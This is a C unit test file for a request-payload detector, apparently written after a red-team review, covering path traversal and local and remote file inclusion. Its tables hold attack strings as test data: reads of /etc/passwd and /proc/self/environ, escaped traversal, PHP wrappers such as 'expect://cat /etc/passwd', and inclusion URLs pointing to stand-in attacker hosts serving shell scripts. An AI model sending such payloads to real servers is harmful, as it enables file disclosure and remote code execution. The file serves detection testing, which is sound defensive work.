/* test_payload_rtp2.c - issue 20, session 15 red team of helper t (path
 * traversal, local and remote file inclusion): the constructs its fresh
 * tables and the last review (rev3 E7, E8, A6) found missed or wrongly
 * flagged, one row per construct, written here from the construct. Every
 * value is judged as a query parameter value (payload_scan) and as a form
 * body "a=1&q=<percent-encoded value>" (payload_scan_query): an attack
 * must draw its own kind in both, a benign value nothing in either. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define T PAYLOAD_TRAVERSAL
#define N PAYLOAD_NONE

/* rev3 E8: a sensitive file with words after it. A value cut at its first
 * blank (split()[0], strtok, a shell's word split) or made an argv (cat,
 * grep, tar take every word as a file) opens the file the words follow:
 * a sentence may start with /proc/cmdline or /etc/hosts to explain it, but
 * one that starts with a file every traversal list reaches for
 * (/etc/passwd, win.ini) is a value built to be cut */
static void test_trav_prose_lead(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"/etc/passwd is the file to read now", T},
		{"/proc/self/environ is what we read here now", T},
		{"C:\\Windows\\win.ini is the file I want now", T},
		{"/etc/shadow and /etc/passwd are both here", T},
		{"/proc/cmdline shows the kernel arguments", N},
		{"\"/etc/passwd\" and some words", T},
		{"Edit /etc/hosts to add the entry", N},
		{"I read /etc/passwd is world readable, is that a problem?", N},
		{"Please edit /etc/hosts on your laptop and add the staging IP", N},
		{"Windows stores it in C:\\Windows\\System32\\drivers\\etc\\hosts, edit as admin", N},
	};
	rt_run("trav-prose-lead", t, sizeof(t) / sizeof(t[0]));
}

/* rev3 E7: the dots of a step under the root in the escapes an unescaping
 * layer (stripcslashes, a JSON or JS string) reads as '.': two-digit
 * octal, \xNN, \uNNNN, as \056 already is */
static void test_trav_escaped_dots(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"images/\\56\\56/x", T},
		{"images/\\x2e\\x2e/x", T},
		{"images/\\u002e\\u002e/x", T},
		{"\\x2e\\x2e\\x2f\\x2e\\x2e\\x2fetc\\x2fpasswd", T},
		{"\\u002e\\u002e\\u002fetc\\u002fpasswd", T},
		{"\\x2e is the hex escape for a dot", N},
		{"use \\56 in an octal escape", N},
		{"C:\\data\\56\\report.xlsx", N},
	};
	rt_run("trav-escaped-dots", t, sizeof(t) / sizeof(t[0]));
}

/* rev3 A6: PHP's static property (self::$data, Config::$data) is no NTFS
 * stream: a stream follows a file's name with its extension */
static void test_trav_php_static(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"return self::$data;", N},
		{"$x = Config::$data['key'];", N},
		{"static::$index_allocation", N},
		{"index.php::$DATA", T},
		{"web.config::$DATA", T},
		{"uploads/shell.asp::$INDEX_ALLOCATION", T},
	};
	rt_run("trav-php-static", t, sizeof(t) / sizeof(t[0]));
}

/* a PHP stream wrapper named inside a sentence (a word before it) is
 * documentation: include() opens a wrapper only at the value's start */
static void test_trav_wrapper_prose(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"the php://input stream is empty when content-type is multipart", N},
		{"use zip:// wrapper to read a file inside an archive, see the manual", N},
		{"php://filter/convert.base64-encode/resource=index.php", T},
		{"php://input", T},
		{"expect://cat /etc/passwd", T},
		{"zip://uploads/avatar.jpg#shell", T},
	};
	rt_run("trav-wrapper-prose", t, sizeof(t) / sizeof(t[0]));
}

/* remote file inclusion: a URL to a script or a text file cut by an
 * empty query, a fragment or a NUL so the ".php" an include appends is
 * dropped; a UNC path to a script (SMB include on Windows). A link a user
 * pastes ends with its page. */
static void test_trav_rfi(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"http://evil.example/shell.txt?", T},
		{"https://attacker.test/c99.txt??", T},
		{"http://192.0.2.7/r57.php?=", T},
		{"ftp://evil.example/pub/x.txt?", T},
		{"http://evil.example:8080/inc.txt#", T},
		{"http://evil.example/shell.txt%00", T},
		{"\\\\evil.example\\share\\x.php", T},
		{"https://cdn.example.com/shell.txt", N},
		{"http://example.com/include.php?page=about", N},
		{"https://example.com/search?", N},
		{"\\\\nas01\\home\\jdoe\\notes.txt", N},
		{"\\\\fileserver\\shared\\Marketing\\Q3 plan.pptx", N},
	};
	rt_run("trav-rfi", t, sizeof(t) / sizeof(t[0]));
}

/* an editor's or an admin's copy beside a server's code or configuration
 * (the server hands it out as text), and secrets an application keeps by
 * a name of its own */
static void test_trav_backup_secret(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"config.php.bak", T},
		{"wp-config.php~", T},
		{"/app/config.inc.php.old", T},
		{"./.index.php.swp", T},
		{"settings.py.orig", T},
		{".hg/hgrc", T},
		{".npmrc", T},
		{"config/secrets.yml", T},
		{"../appsettings.json", T},
		{"LocalSettings.php", T},
		{"report.xlsx.bak", N},
		{"photo.jpg.1", N},
		{".php.bak", N},
		{"How do I store secrets in appsettings.json safely?", N},
	};
	rt_run("trav-backup-secret", t, sizeof(t) / sizeof(t[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_trav_prose_lead),
		cmocka_unit_test(test_trav_escaped_dots),
		cmocka_unit_test(test_trav_php_static),
		cmocka_unit_test(test_trav_wrapper_prose),
		cmocka_unit_test(test_trav_rfi),
		cmocka_unit_test(test_trav_backup_secret),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
